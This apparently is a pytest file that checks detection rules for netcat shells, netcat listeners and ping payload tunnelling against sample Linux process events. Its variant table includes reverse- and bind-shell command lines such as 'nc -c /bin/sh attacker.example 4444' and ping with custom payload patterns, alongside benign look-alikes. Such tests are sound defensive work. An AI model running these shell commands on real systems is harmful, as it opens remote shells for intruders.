"""The shipped netcat and ping process rules fire on the variants attackers type, not on look-alikes.

Engine level, no database: the rule files of container-c2-nonstandard-protocols (lnx_*.yml) are
compiled as shipped and matched against Sysmon-for-Linux-shaped process events (Sigma field names
Image and CommandLine). Each row names the complete set of rules that must fire, so a variant
that fires an extra rule fails as surely as one that evades.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from django.conf import settings

from detections.engine import compile_rules

RULES_DIR = Path(settings.BASE_DIR) / "detections" / "library" / "rules" / "container-c2-nonstandard-protocols"

EXEC = "3eaa4a4d-3681-4500-93ec-d6d8888262d7"  # Netcat Executing A Program For The Remote Peer
LISTENER = "f4653c65-f5a3-4d1d-9cc1-1c20d1c13f23"  # Netcat Listener Started
CLIENT = "931c270c-4b0f-4de9-8cbc-6776adcc0a9b"  # Netcat Client Connecting To A Host And Port
PING = "a78b5c6c-ae70-442e-9eeb-a874be16be64"  # Ping With Custom Payload Pattern Or Oversized Payload

# (Image, CommandLine, rules that fire). Images are what Sysmon/auditd report: the resolved
# executable, so Debian's `nc` shows as /usr/bin/nc.openbsd or /bin/nc.traditional and a
# busybox applet shows as /bin/busybox with the applet name in the command line.
VARIANTS = [
    # --- exec (-e / -c hands a program to the peer) -------------------------------------
    ("/usr/bin/nc", "nc 10.0.0.5 4444 -e/bin/sh", {EXEC, CLIENT}),
    ("/bin/nc.traditional", "nc -lvnp4444 -e /bin/sh", {LISTENER, EXEC}),
    ("/usr/bin/nc", "nc -c /bin/sh attacker.example 4444", {EXEC, CLIENT}),
    ("/usr/bin/ncat", "ncat -lvkc /bin/sh 4444", {LISTENER, EXEC}),
    ("/usr/bin/ncat", "ncat --sh-exec /bin/bash 10.0.0.5 4444", {EXEC, CLIENT}),
    ("/usr/bin/ncat", "ncat --lua-exec shell.lua -l 4444", {EXEC, LISTENER}),
    ("/bin/busybox", "nc -lk -p 31337 -e /bin/sh", {LISTENER, EXEC}),
    ("/bin/busybox", "busybox nc 203.0.113.66 4444 -e /bin/sh", {EXEC, CLIENT}),
    ("/bin/busybox", "/usr/bin/nc 203.0.113.66 4444 -e/bin/sh", {EXEC, CLIENT}),
    # --- listeners, flags combined with their port ----------------------------------------
    ("/usr/bin/nc", "nc -lvnp4444", {LISTENER}),
    ("/usr/bin/nc", "nc -vlp 4444", {LISTENER}),
    ("/usr/bin/ncat", "ncat --listen 4444", {LISTENER}),
    ("/usr/bin/nc.openbsd", "nc -l 4444", {LISTENER}),
    ("/usr/bin/netcat", "/usr/bin/netcat -l -p 4444", {LISTENER}),
    # --- clients: host names as well as addresses ------------------------------------------
    ("/usr/bin/nc", "nc attacker.example 4444", {CLIENT}),
    ("/usr/bin/nc", "nc -v -w 3 c2.example.test 8443", {CLIENT}),
    ("/usr/bin/nc.openbsd", "nc -q 2 10.10.0.22 31337", {CLIENT}),
    ("/bin/busybox", "nc c2 4444", {CLIENT}),
    # --- look-alikes that must not fire --------------------------------------------------
    # OpenBSD netcat: -c is TLS and -e the TLS peer name, neither runs a program.
    ("/usr/bin/nc.openbsd", "nc -c example.com 443", {CLIENT}),
    ("/usr/bin/nc.openbsd", "nc -c -e example.com example.com 443", {CLIENT}),
    # port probes (-z) are reachability checks, documented as out of scope of the client rule
    ("/usr/bin/nc", "nc -z -w 2 10.10.0.40 5432", set()),
    ("/usr/bin/nc", "nc -zv db.internal 5432", set()),
    ("/usr/bin/nc", "nc -vz db.internal 5432", set()),
    # not netcat at all, though the command line mentions it or has the same flags
    ("/usr/bin/docker", "docker run --rm alpine nc -z -w 2 10.10.0.40 5432", set()),
    ("/usr/bin/curl", "curl -c cookies.txt -e http://ref.example/ http://example.com 80", set()),
    ("/bin/busybox", "sh -c sleep 5", set()),
    ("/usr/bin/ncdu", "ncdu -e /var 80", set()),
    # --- ping: fill pattern (-p) or oversized payload (-s 100 and more) ---------------------
    ("/bin/ping", "ping -s 1200 10.0.0.1", {PING}),
    ("/bin/ping", "ping -s1200 host.example", {PING}),
    ("/bin/ping", "ping -pdeadbeef host.example", {PING}),
    ("/bin/ping", "/bin/ping -p ff 10.0.0.1", {PING}),
    ("/usr/bin/ping", "ping -c 4 -qs 1400 10.0.0.1", {PING}),
    ("/bin/busybox", "ping -c 30 -i 2 -s 1200 -p 636d643a69640a 203.0.113.66", {PING}),
    ("/bin/busybox", "busybox ping -s 1400 10.0.0.1", {PING}),
    ("/bin/ping", "ping -c 3 10.0.0.1", set()),
    ("/bin/ping", "ping -s 64 10.0.0.1", set()),
    ("/usr/bin/ping", "ping -c 2 -W 1 registry.example.internal", set()),
    ("/bin/busybox", "ping -c 4 10.10.0.1", set()),
    ("/usr/bin/dash", "sh -c ping -c 4 -p ff 127.0.0.1", set()),
]


@pytest.fixture(scope="module")
def shipped_process_rules():
    paths = sorted(RULES_DIR.glob("lnx_*.yml"))
    ruleset = compile_rules([path.read_text() for path in paths])
    assert not ruleset.errors, ruleset.errors
    return ruleset


def test_variant_table_covers_every_command_line_once():
    lines = [(image, command_line) for image, command_line, _ in VARIANTS]
    assert len(lines) == len(set(lines))


@pytest.mark.parametrize(("image", "command_line", "expected"), VARIANTS, ids=[v[1] for v in VARIANTS])
def test_process_rules_fire_exactly_on_their_variants(shipped_process_rules, image, command_line, expected):
    event = {"Image": image, "CommandLine": command_line, "ParentImage": "/bin/sh"}
    fired = {rule_id for rule_id, _ in shipped_process_rules.match([event])}
    assert fired == expected


def test_variants_fire_the_same_rules_in_one_batch(shipped_process_rules):
    """One batch of all rows gives the same answer as row by row (the prefilter sees every row)."""
    events = [{"Image": image, "CommandLine": line, "ParentImage": "/bin/sh"} for image, line, _ in VARIANTS]
    fired: dict[int, set[str]] = {}
    for rule_id, row in shipped_process_rules.match(events):
        fired.setdefault(row, set()).add(rule_id)
    assert {i: fired.get(i, set()) for i in range(len(VARIANTS))} == {
        i: expected for i, (_, _, expected) in enumerate(VARIANTS)
    }
